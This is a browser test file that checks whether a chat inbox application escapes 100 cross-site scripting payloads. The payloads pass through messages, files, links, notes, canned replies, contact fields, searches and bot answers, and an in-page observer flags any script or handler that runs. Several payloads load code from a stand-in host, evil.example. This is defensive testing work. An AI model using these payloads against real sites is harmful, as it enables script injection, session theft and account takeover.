/**
 * A hundred texts that would run as scripts if any field were taken for HTML, or as links if any address were followed,
 * through every field that the inbox shows: what contacts write, send as files and as links, what operators answer, note
 * and save as canned replies, names, remarks, tags, searches, and what a bot answers. In Chromium nothing may run: no
 * dialog, no report of the Content-Security-Policy, no element with a handler, a script or a `javascript:` address; and
 * each text stands on the page as it was written.
 */
import type { Locator, Page } from 'playwright-core';
import { type Endpoint, startEndpoint } from '../support/endpoint';
import { eventually } from '../support/eventually';
import type { DeskChannel } from '../support/process-desk';
import { type BrowserDesk, describeInBrowser, type Person, ringForAnHour, startBrowserDesk } from './support';

jest.setTimeout(900_000);

const OF_EACH_CONTACT = 5;
const OF_EACH_BOT_CONTACT = 10;
const LONGEST = { name: 100, remark: 29, tag: 30, shortcut: 32 };
const SEARCHES = 20;
/** High enough for all rows: the transcript renders only those in view. */
const TALL = { viewport: { width: 1400, height: 8_000 } };

const SCRIPTS = [
  '<script>alert(1)</script>',
  '"><script>alert(2)</script>',
  "'><script>alert(3)</script>",
  '</script><script>alert(4)</script>',
  '</textarea><script>alert(5)</script>',
  '</title><script>alert(6)</script>',
  '<scr<script>ipt>alert(7)</scr</script>ipt>',
  '<ScRiPt>alert(8)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,alert(10)"></script>',
  '<script type=module>import("data:text/javascript,alert(11)")</script>',
  '<script\t>alert(12)</script\t>',
  '<script/x>alert(13)</script>',
  '<noscript><p title="</noscript><script>alert(14)</script>">',
  '<template><script>alert(15)</script></template>',
];
const HANDLERS = [
  '<img src=x onerror=alert(16)>',
  '"><img src=x onerror=alert(17)>',
  "'><img src=x onerror='alert(18)'>",
  '<img src="x"onerror="alert(19)">',
  '<img/src=x/onerror=alert(20)>',
  '<img src=x oNeRrOr=alert(21)>',
  '<img src=x onerror=\nalert(22)>',
  '<body onload=alert(23)>',
  '<input autofocus onfocus=alert(24)>',
  '<select autofocus onfocus=alert(25)></select>',
  '<textarea autofocus onfocus=alert(26)></textarea>',
  '<details open ontoggle=alert(27)><summary>x</summary></details>',
  '<video><source onerror=alert(28)></video>',
  '<audio src=x onerror=alert(29)></audio>',
  '<marquee onstart=alert(30)>x</marquee>',
  '<div onpointerover=alert(31) style="position:fixed;inset:0">x</div>',
  '<a href=# onclick=alert(32)>x</a>',
  '<button popovertarget=x onbeforetoggle=alert(33)>x</button>',
  '<x contenteditable onblur=alert(34) tabindex=1 id=x autofocus>x</x>',
  '" onmouseover="alert(35)" x="',
  "' onfocus='alert(36)' autofocus='",
  '` onerror=alert(37) `',
  '<form><button formaction=javascript:alert(38)>x</button></form>',
  '<isindex type=image src=1 onerror=alert(39)>',
  '<style onload=alert(40)></style>',
];
const SVG_AND_FRAMES = [
  '<svg onload=alert(41)>',
  '<svg/onload=alert(42)>',
  '<svg><script>alert(43)</script></svg>',
  '<svg><script href="data:text/javascript,alert(44)"/></svg>',
  '<svg><a xlink:href="javascript:alert(45)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(46) attributeName=x dur=1s>',
  '<svg><set attributeName=onload to=alert(47)>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(48)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(49)>',
  '<math href="javascript:alert(50)">x</math>',
  '<iframe src=javascript:alert(51)></iframe>',
  '<iframe srcdoc="<script>parent.alert(52)</script>"></iframe>',
  '<object data="javascript:alert(53)"></object>',
  '<embed src="javascript:alert(54)">',
  '<object data="data:text/html,<script>alert(55)</script>"></object>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(57)">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<frameset onload=alert(59)>',
  '<portal src="javascript:alert(60)">',
];
const ADDRESSES = [
  'javascript:alert(61)',
  'JaVaScRiPt:alert(62)',
  'javascript://example.com/%0aalert(63)',
  'java\tscript:alert(64)',
  '&#106;avascript:alert(65)',
  'javascript&colon;alert(66)',
  'data:text/html,<script>alert(67)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCg2OCk8L3NjcmlwdD4=',
  'vbscript:msgbox(69)',
  'blob:https://example.com/alert(70)',
  'https://example.com/"onmouseover="alert(71)',
  'https://example.com/<script>alert(72)</script>',
  "https://example.com/'><img src=x onerror=alert(73)>",
  'http://user:javascript@example.com/#alert(74)',
  '[x](javascript:alert(75))',
  '[x](JAVASCRIPT:alert(76) "title")',
  '![x](x"onerror="alert(77))',
  '![x](javascript:alert(78))',
  '<javascript:alert(79)>',
  '[x]: javascript:alert(80)',
  '[<img src=x onerror=alert(81)>](https://example.com)',
  '[x](data:text/html,<script>alert(82)</script>)',
];
const OTHERS = [
  '{{constructor.constructor("alert(83)")()}}',
  // oxlint-disable-next-line no-template-curly-in-string
  '${alert(84)}',
  '#{alert(85)}',
  '<%= alert(86) %>',
  '{{{"}}}".constructor.constructor("alert(87)")()}}',
  '<style>*{background:url("javascript:alert(88)")}</style>',
  '<div style="background:url(javascript:alert(89))">x</div>',
  '<div style="width:expression(alert(90))">x</div>',
  '</style><script>alert(91)</script>',
  '<!--<img src="--><img src=x onerror=alert(92)//">',
  '<![CDATA[<script>alert(93)</script>]]>',
  '<a href="javascript:alert(94)"<b>x',
  '<<img src=x onerror=alert(95)//<',
  '＜script＞alert(96)＜/script＞',
  '\u202e<script>alert(97)</script>\u202c',
  '<script\u200b>alert(98)</script>',
  '&lt;script&gt;alert(99)&lt;/script&gt;',
  '%3Cscript%3Ealert(100)%3C%2Fscript%3E',
];
const PAYLOADS: readonly string[] = [...SCRIPTS, ...HANDLERS, ...SVG_AND_FRAMES, ...ADDRESSES, ...OTHERS];

/** A payload that fits into a field of one line. */
const lineOf = (payload: string, longest: number): string =>
  Array.from(payload.replaceAll(/\p{Cc}/gu, ' '))
    .slice(0, longest)
    .join('')
    .trim();

type Watched = { attacks: string[] };

/** Runs in the page, before anything else of it: notes what must never be there, as soon as it is. */
function watchForAttacks(): void {
  const attacks: string[] = [];
  (window as unknown as Watched).attacks = attacks;
  const judge = (element: Element): void => {
    const name = element.localName;
    const isOwnScript =
      name === 'script' &&
      (element.getAttribute('src') ?? '').startsWith('/') &&
      !(element.getAttribute('src') ?? '').startsWith('//');
    const isForbidden = [
      'script',
      'iframe',
      'frame',
      'object',
      'embed',
      'base',
      'portal',
      'marquee',
    ].includes(name);
    if (isForbidden && !isOwnScript) attacks.push(`<${name}>: ${element.outerHTML.slice(0, 200)}`);
    for (const { name: attribute, value } of element.attributes) {
      const isAddress = ['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'srcdoc'].includes(
        attribute,
      );
      const leads = value.replaceAll(/[\s\p{Cc}]/gu, '').toLowerCase();
      const isBad = /^on/i.test(attribute) || (isAddress && /^(?:javascript|vbscript|data:text)/.test(leads));
      if (isBad || attribute === 'srcdoc') attacks.push(`${attribute}="${value}" of <${name}>`);
    }
  };
  new MutationObserver((records) => {
    for (const { target, addedNodes, type } of records) {
      if (type === 'attributes' && target instanceof Element) judge(target);
      for (const node of addedNodes) {
        if (!(node instanceof Element)) continue;
        judge(node);
        for (const inside of node.querySelectorAll('*')) judge(inside);
      }
    }
  }).observe(document, { subtree: true, childList: true, attributes: true });
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
    attacks.push(`policy: ${violatedDirective} ${blockedURI}`);
  });
}

describeInBrowser('texts that would run', () => {
  let desk: BrowserDesk;
  let mei: Person;
  let model: Endpoint;
  let botChannel: DeskChannel;
  const dialogs: string[] = [];

  beforeAll(async () => {
    expect(PAYLOADS).toHaveLength(100);
    expect(new Set(PAYLOADS).size).toBe(100);
    model = await startEndpoint((response, { body }) => {
      const [, number = ''] = /ask (\d+)(?!.*ask \d+)/s.exec(body) ?? [];
      const content = `bot ${number} ${PAYLOADS[Number(number)]}`;
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(
        `data: ${JSON.stringify({ choices: [{ delta: { content }, finish_reason: null }] })}\n\n`,
      );
      response.end('data: {"choices":[{"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n');
    });
    desk = await startBrowserDesk();
    botChannel = await desk.connect({ brandId: desk.brandId });
    await ringForAnHour(desk);
    const fields = { kind: 'openai', name: 'Echo', baseUrl: model.url, model: 'echo' };
    const bot = await desk.call<{ id: string }>('POST', '/bots', { brandId: desk.brandId, ...fields });
    expect(bot.status).toBe(201);
    const settings = { bot: { botId: bot.body.id } };
    expect((await desk.call('PATCH', `/channels/${botChannel.channelId}`, { settings })).status).toBe(200);
    mei = await desk.addOperator('Mei');
  }, 180_000);
  afterAll(async () => {
    await desk?.close();
    await model?.close();
  });
  afterEach(async () => {
    expect(await desk.endPages()).toEqual([]);
    expect(dialogs.splice(0)).toEqual([]);
  });

  const log = (page: Page): Locator => page.getByRole('log', { name: 'Transcript' });
  const box = (page: Page): Locator => page.getByRole('textbox', { name: 'Reply' });
  const part = (at: number, size: number): readonly string[] => PAYLOADS.slice(at * size, (at + 1) * size);

  /** A page that is watched from its first element on. */
  async function open(path: string): Promise<Page> {
    const page = await desk.openAs(mei, '/inbox/all', TALL);
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.context().addInitScript(watchForAttacks);
    await page.goto(`${desk.url}${path}`);
    return page;
  }
  const attacksOn = async (page: Page): Promise<readonly string[]> =>
    page.evaluate(() => (window as unknown as Watched).attacks);
  /** Everything that must not have been there was not. */
  async function expectUnharmed(page: Page): Promise<void> {
    expect(await attacksOn(page)).toEqual([]);
  }
  /** Waits until an element holds all of these texts as they are, and says which are missing if it never does. */
  async function shows(where: Locator, texts: readonly string[]): Promise<void> {
    const missing = async (): Promise<readonly string[]> => {
      const shown = (await where.textContent()) ?? '';
      return texts.filter((text) => !shown.includes(text));
    };
    await eventually(async () => (await missing()).length === 0, 'all texts are shown', 30_000).catch(
      async () => expect(await missing()).toEqual([]),
    );
  }
  const ok = async (method: string, path: string, body: object, status: number): Promise<void> => {
    const answer = await desk.call(method, path, body);
    expect([path, body, answer.status, answer.status === status ? '' : answer.body]).toEqual([
      path,
      body,
      status,
      '',
    ]);
  };

  test('would be noticed', async () => {
    const page = await open('/inbox/all');
    await page.getByRole('textbox', { name: 'Search' }).waitFor();
    await expectUnharmed(page);
    // Without anything that the policy would report: every page of these tests fails for that.
    await page.evaluate(() => {
      const harm = document.createElement('div');
      harm.innerHTML = '<b onnothing="1"><a href="Java\tscript:1">x</a></b><object></object>';
      document.body.append(harm);
      const report = {
        violatedDirective: 'script-src',
        blockedURI: 'inline',
      } as SecurityPolicyViolationEventInit;
      document.dispatchEvent(new SecurityPolicyViolationEvent('securitypolicyviolation', report));
    });
    await eventually(async () => (await attacksOn(page)).length === 4, 'four attacks are noticed');
    expect((await attacksOn(page)).map((one) => one.slice(0, 9)).sort()).toEqual(
      ['<object>:', 'href="Jav', 'onnothing', 'policy: s'].sort(),
    );
  });

  test('of contacts and operators, in the transcript, the list and the contact panel, are only shown', async () => {
    for (let at = 0; at < PAYLOADS.length / OF_EACH_CONTACT; at += 1) {
      const openId = `oAttack${at}`;
      const texts = part(at, OF_EACH_CONTACT);
      await desk.writes(openId, 'hello');
      const { id, contact } = await desk.conversation(openId);
      const page = await open(`/inbox/all/${id}`);
      await box(page).waitFor();
      for (const text of texts) {
        await desk.writes(openId, text);
        await desk.simulator.write(openId, { type: 'file', title: `file ${text}`, description: text });
        const link = { title: `link ${text}`, description: `about ${text}`, url: text };
        await desk.simulator.write(openId, { type: 'link', ...link });
        await ok('POST', `/conversations/${id}/notes`, { text: `note ${text}` }, 201);
        await ok('POST', `/conversations/${id}/messages`, { type: 'text', text: `reply ${text}` }, 201);
        const name = lineOf(text, LONGEST.name);
        const tags = [lineOf(text, LONGEST.tag)];
        await ok(
          'PATCH',
          `/contacts/${contact.id}`,
          { name, remark: lineOf(text, LONGEST.remark), tags },
          200,
        );
        // The heading and the list follow by themselves.
        await page
          .locator('[data-row]')
          .filter({ hasText: name.replaceAll(/\s+/g, ' ') })
          .first()
          .waitFor();
      }
      const kinds = ['', 'file ', 'link ', 'about ', 'note ', 'reply '];
      await shows(
        log(page),
        texts.flatMap((text) => kinds.map((kind) => `${kind}${text}`)),
      );
      await expectUnharmed(page);
      await page.reload();
      await shows(log(page), texts);
      await page.getByRole('complementary', { name: 'Contact' }).getByLabel('Remark').waitFor();
      await expectUnharmed(page);
      expect(await desk.endPages()).toEqual([]);
    }
  });

  test('of a bot are only shown', async () => {
    const { appId } = botChannel.account;
    const talk = async (at: number): Promise<void> => {
      const openId = `oBotAttack${at}`;
      desk.simulator.addContact({ appId, openId });
      for (const [index, text] of part(at, OF_EACH_BOT_CONTACT).entries()) {
        const number = at * OF_EACH_BOT_CONTACT + index;
        await desk.simulator.write({ appId, openId }, { type: 'text', text: `${text} ask ${number}` });
        const isAnswered = async (): Promise<boolean> =>
          (await desk.timeline(openId)).some(
            ({ sender, text: said = '' }) =>
              sender.kind === 'bot' && new RegExp(`^bot ${number}\\b`).test(said),
          );
        await eventually(isAnswered, `the bot has answered ${number}: ${text}`, 60_000);
      }
    };
    await Promise.all(Array.from({ length: PAYLOADS.length / OF_EACH_BOT_CONTACT }, (_, at) => talk(at)));
    for (let at = 0; at < PAYLOADS.length / OF_EACH_BOT_CONTACT; at += 1) {
      const { id } = await desk.conversation(`oBotAttack${at}`);
      const page = await open(`/inbox/all/${id}`);
      const numbers = Array.from(
        { length: OF_EACH_BOT_CONTACT },
        (_, index) => at * OF_EACH_BOT_CONTACT + index,
      );
      await shows(log(page), [...part(at, OF_EACH_BOT_CONTACT), ...numbers.map((number) => `bot ${number}`)]);
      await expectUnharmed(page);
      expect(await desk.endPages()).toEqual([]);
    }
  });

  test('of canned replies are only shown: in the list, in the menu, in the preview and in the message', async () => {
    const { brandId } = desk;
    const saved: { readonly shortcut: string; readonly text: string }[] = [];
    for (const [number, text] of PAYLOADS.entries()) {
      const shortcut = lineOf(`x${number}${text.replaceAll(/[\s/]/g, '')}`, LONGEST.shortcut);
      const answer = await desk.call('POST', '/canned-replies', { shortcut, text, brandId });
      // An unknown variable is refused.
      expect([text, answer.status]).toEqual([text, text.includes('{{') ? 400 : 201]);
      if (answer.status === 201) saved.push({ shortcut, text });
    }
    expect(saved.length).toBeGreaterThan(90);
    await desk.writes('oCanned', 'hello');
    const page = await open(`/inbox/all/${(await desk.conversation('oCanned')).id}`);
    await page.getByRole('button', { name: 'Canned replies' }).click();
    const dialog = page.getByRole('dialog');
    await shows(
      dialog,
      saved.flatMap(({ shortcut, text }) => [`/${shortcut}`, text]),
    );
    await expectUnharmed(page);
    await page.keyboard.press('Escape');
    for (const { shortcut, text } of saved) {
      await box(page).fill(`/${shortcut.slice(0, 12)}`);
      const option = page.getByRole('option').first();
      await option.waitFor();
      await box(page).press('Enter');
      await eventually(
        async () => (await box(page).inputValue()) === text,
        `the canned reply is in the message: ${text}`,
      );
      await box(page).fill('');
    }
    await expectUnharmed(page);
  });

  test('that are searched for, and stand in the address, are only shown', async () => {
    const every = PAYLOADS.length / SEARCHES;
    for (const text of PAYLOADS.filter((_, index) => index % every === 0)) {
      const page = await open(`/inbox/all?q=${encodeURIComponent(text)}`);
      const search = page.getByRole('textbox', { name: 'Search' });
      await search.waitFor();
      expect([text, await search.inputValue()]).toEqual([text, text]);
      await page.locator('[data-row]').first().waitFor();
      await expectUnharmed(page);
      expect(await desk.endPages()).toEqual([]);
    }
  });
});
